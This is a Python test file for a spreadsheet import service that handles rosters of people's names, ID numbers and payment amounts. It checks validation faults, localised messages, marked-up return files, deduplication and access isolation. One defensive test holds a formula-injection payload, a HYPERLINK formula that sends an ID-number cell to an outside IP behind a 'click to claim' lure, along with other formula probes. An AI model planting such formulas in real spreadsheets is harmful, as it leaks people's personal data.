"""A list is rehearsed, found faulty, handed back marked, put right and sent again."""

from io import BytesIO
from typing import Any
from zipfile import ZipFile

from python_calamine import CalamineWorkbook
from sqlalchemy import func, select, text
from uuid_utils.compat import uuid4

from app.house import House
from app.models.operations.imports import Import
from app.policies.principals import SYSTEM
from app.policies.scope import EVERYTHING
from tests.builders.imports import HEADER, IMPORTS, ROSTER, Clerk, a_list
from tests.builders.veterans import OTHER_VILLAGE, a_person, an_id_number
from tests.fixtures.work import WorkOff
from tests.stories.imports.conftest import Someone


def _cells(content: bytes, sheet: str = "数据") -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(BytesIO(content)).get_sheet_by_name(sheet).to_python()


async def _read(clerk: Clerk, work_off: WorkOff, content: bytes, *, dry_run: bool = False) -> str:
    sent = await clerk.sends(content, dry_run=dry_run)
    assert sent.status_code == 202, sent.text
    await work_off()
    return str(sent.json()["result_url"])


async def _faults(clerk: Clerk, path: str) -> list[tuple[int, str | None, str]]:
    rows = (await clerk.gets(f"{path}/rows", faults=True, limit=100))["items"]
    return [
        (fault["row"], fault["column"], fault["code"]) for row in rows for fault in row["faults"]
    ]


async def test_the_template_is_text_throughout_and_can_be_filled_in_and_sent(
    clerk: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    kinds = await clerk.gets(f"{IMPORTS}/templates")
    assert [kind["title"] for kind in kinds["items"] if kind["kind"] == ROSTER.code] == ["测试名册"]
    template = await clerk.fetches(f"{IMPORTS}/templates/{ROSTER.code}")
    [header] = _cells(template)
    assert header[:4] == ["姓名*", "身份证号*", "起始月份*", "金额(元)*"]
    assert header[4:] == ["户口性质", "银行卡号"]
    sheet = ZipFile(BytesIO(template)).read("xl/worksheets/sheet1.xml").decode()
    styles = ZipFile(BytesIO(template)).read("xl/styles.xml").decode()
    assert '<col min="1" max="6" width="24.7109375" style="1" customWidth="1"/>' in sheet
    assert "<dataValidation " in sheet
    assert 'numFmtId="49"' in styles  # 49 is "@": text.
    explained = [row[0] for row in _cells(template, "填写说明")]
    assert explained[2:] == [column.zh for column in ROSTER.columns]
    english = _cells(await clerk.fetches(f"{IMPORTS}/templates/{ROSTER.code}", "en"))[0]
    assert english[1] == "Identity number*"

    filled = a_list([each.row() for each in people], header)
    path = await _read(clerk, work_off, filled, dry_run=True)
    assert (await clerk.gets(path))["status"] == "rehearsed"
    missing = await clerk.client.get(
        f"{IMPORTS}/templates/no_such_list", headers=clerk.signed_in.headers
    )
    assert missing.status_code == 404


async def test_a_rehearsal_tells_all_and_leaves_nothing_to_confirm(
    clerk: Clerk, colleague: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    content = a_list([each.row("50") for each in people])
    first = await _read(clerk, work_off, content, dry_run=True)
    second = await _read(clerk, work_off, content, dry_run=True)
    assert first != second
    told = await clerk.gets(first)
    assert (told["row_count"], told["fault_count"], told["total_fen"]) == (5, 0, 25_000)
    assert told["effects"] == [{"effect": "added", "label": "新增", "count": 5}]
    for verb in ("draw-sample", "confirm"):
        refused = await colleague.does(first, verb)
        assert (refused.status_code, refused.json()["code"]) == (409, "illegal_import_step")
    # What was rehearsed can then be sent in earnest.
    path = await _read(clerk, work_off, content)
    assert (await clerk.gets(path))["status"] == "entered"


async def test_every_row_is_answered_and_one_faulty_row_stops_them_all(
    house: House, clerk: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    elsewhere = an_id_number()
    async with house.database.transaction(EVERYTHING, SYSTEM) as session:
        await a_person(session, "林玉兰", OTHER_VILLAGE, id_number=elsewhere)
    one, two, three, four, five = people
    rows: list[list[Any]] = [
        one.row(),
        ["林玉兰", elsewhere, "2026-01", "60"],  # Lives in the next county.
        ["无此人", an_id_number(), "2026-01", "60"],  # Registered nowhere.
        [two.name, float(two.id_number[:17]), "2026-01", "60"],
        [three.name, three.id_number, "一月", "-5"],
        four.row(),
        four.row(),
        [five.name, f"{five.id_number[:-1]}Z", None, 0.001],
    ]
    path = await _read(clerk, work_off, a_list(rows))
    found = await clerk.gets(path)
    assert (found["status"], found["row_count"], found["fault_count"]) == ("faulty", 8, 9)
    assert await _faults(clerk, path) == [
        (3, "身份证号", "person_unknown"),
        (4, "身份证号", "person_unknown"),
        (5, "身份证号", "cell_number_destroyed"),
        (6, "起始月份", "cell_not_a_month"),
        (6, "金额(元)", "cell_not_an_amount"),
        (8, None, "row_repeated"),
        (9, "身份证号", "id_number_malformed"),
        (9, "起始月份", "required"),
        (9, "金额(元)", "cell_not_an_amount"),
    ]
    rows_read = (await clerk.gets(f"{path}/rows", faults=True, limit=100))["items"]
    elsewhere_told, nowhere_told = (
        {key: row["faults"][0][key] for key in ("column", "code", "message")}
        for row in rows_read[:2]
    )
    assert elsewhere_told == nowhere_told


async def test_the_answer_speaks_the_language_of_whoever_reads_it_and_comes_in_pages(
    clerk: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    path = await _read(clerk, work_off, a_list([each.row("?") for each in people]))
    english = await clerk.client.get(
        f"{path}/rows", headers={**clerk.signed_in.headers, "Accept-Language": "en"}
    )
    fault = english.json()["items"][0]["faults"][0]
    assert fault == {
        "sheet": "数据",
        "row": 2,
        "column": "Amount (yuan)",
        "code": "cell_not_an_amount",
        "message": "Give an amount in yuan above zero with at most two decimals,"
        " for example 1250.50.",
    }
    first = await clerk.gets(f"{path}/rows", faults=True, limit=3)
    rest = await clerk.gets(f"{path}/rows", faults=True, limit=3, cursor=first["next_cursor"])
    assert [row["row"] for row in first["items"] + rest["items"]] == [2, 3, 4, 5, 6]
    assert rest["next_cursor"] is None


async def test_the_file_comes_back_marked_is_put_right_and_sent_as_it_is(
    clerk: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    rows = [each.row() for each in people]
    rows[1][1] = float(people[1].id_number[:17] + "0")
    rows[2][3] = "=1+1"
    path = await _read(clerk, work_off, a_list(rows))
    marked = await clerk.fetches(f"{path}/file")
    cells = _cells(marked)
    assert cells[0] == [*HEADER[:4], "户口性质", "银行卡号", "问题"]
    assert cells[1][-1] == ""
    # As it was kept, so that everybody sees what is lost.
    assert (len(cells[2][1]), cells[2][1][-3:]) == (18, "000")
    assert cells[2][-1].startswith("身份证号：号码存成了数字")
    assert cells[3][-1].startswith("金额(元)：请填写大于零的金额")
    assert all(isinstance(cell, str) for row in cells for cell in row)
    package = ZipFile(BytesIO(marked))
    assert "号码存成了数字" in package.read("xl/comments1.xml").decode()
    assert "FFFFC7CE" in package.read("xl/styles.xml").decode()

    cells[2][1], cells[3][3] = people[1].id_number, "60"
    again = await _read(clerk, work_off, a_list(cells[1:], cells[0]))
    assert (await clerk.gets(again))["status"] == "entered"


async def test_what_looks_like_a_formula_comes_back_as_the_text_it_is(
    clerk: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    evil = '=HYPERLINK("http://198.51.100.7/?q="&B2,"点此领取")'
    row = people[0].row()
    row[0] = evil
    path = await _read(clerk, work_off, a_list([row, ["@SUM(1)", "+1", "-1", "\t=1"]]))
    package = ZipFile(BytesIO(await clerk.fetches(f"{path}/file")))
    sheet, styles = (
        package.read(f"xl/{name}.xml").decode() for name in ("worksheets/sheet1", "styles")
    )
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert 'quotePrefix="1"' in styles
    assert "HYPERLINK" in package.read("xl/sharedStrings.xml").decode()


async def test_formulas_and_hidden_rows_are_found_however_sound_they_look(
    clerk: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    rows = [each.row() for each in people]
    content = a_list(rows, formulas={"D3": "=D2*2"}, hidden_rows=[5])
    path = await _read(clerk, work_off, content)
    assert await _faults(clerk, path) == [
        (3, "金额(元)", "cell_is_a_formula"),
        (5, None, "row_hidden"),
    ]


async def test_the_same_file_twice_is_one_list(
    house: House, clerk: Clerk, colleague: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    content = a_list([each.row() for each in people])
    first = await clerk.sends(content)
    again = await colleague.sends(content, name="b.xlsx")
    assert (again.status_code, again.json()["id"]) == (202, first.json()["id"])
    await work_off()
    async with house.database.transaction(EVERYTHING, SYSTEM) as session:
        assert await session.scalar(select(func.count()).select_from(Import)) == 1
    # Once it came to nothing it may be sent again.
    path = first.json()["result_url"]
    await clerk.does(path, "dismiss", {"reason": "发错了文件"})
    assert (await clerk.sends(content)).json()["id"] != first.json()["id"]


async def test_the_same_rows_in_another_file_are_known(
    clerk: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    await _read(clerk, work_off, a_list([each.row() for each in people[:3]]))
    path = await _read(clerk, work_off, a_list([each.row("99") for each in people]))
    assert await _faults(clerk, path) == [(row, None, "row_known") for row in (2, 3, 4)]
    # Another month of the same people is another row.
    later = await _read(clerk, work_off, a_list([each.row(month="2026-02") for each in people]))
    assert (await clerk.gets(later))["status"] == "entered"


async def test_nobody_of_the_next_county_learns_that_there_is_a_list(
    clerk: Clerk, neighbour: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    path = await _read(clerk, work_off, a_list([each.row() for each in people]))
    for verb, suffix, body in (
        ("GET", "", None),
        ("GET", "/rows", None),
        ("GET", "/sample", None),
        ("GET", "/file", None),
        ("POST", ":draw-sample", None),
        ("POST", ":check-sample", {"rows": [{"id": str(uuid4()), "agrees": True}]}),
        ("POST", ":confirm", None),
        ("POST", ":dismiss", {"reason": "?"}),
    ):
        answer = await neighbour.client.request(
            verb,
            f"{path}{suffix}",
            json=body,
            headers=neighbour.signed_in.keyed(**{"If-Match": '"1"'}),
        )
        assert (suffix, answer.status_code, answer.json()["code"]) == (suffix, 404, "not_found")
    assert (await neighbour.gets(IMPORTS))["items"] == []
    # The people of the list are nobody to them either.
    theirs = await _read(neighbour, work_off, a_list([each.row() for each in people]))
    assert {code for _, _, code in await _faults(neighbour, theirs)} == {"person_unknown"}


async def test_rows_are_sealed_at_rest(
    house: House, clerk: Clerk, people: list[Someone], work_off: WorkOff
) -> None:
    await _read(clerk, work_off, a_list([each.row() for each in people]))
    async with house.database.transaction(EVERYTHING, SYSTEM) as session:
        kept = await session.scalars(text("SELECT to_jsonb(r)::text FROM import_rows r"))
        told = "".join(kept)
    assert told
    for each in people:
        assert each.id_number not in told
        assert each.id_number.encode().hex() not in told
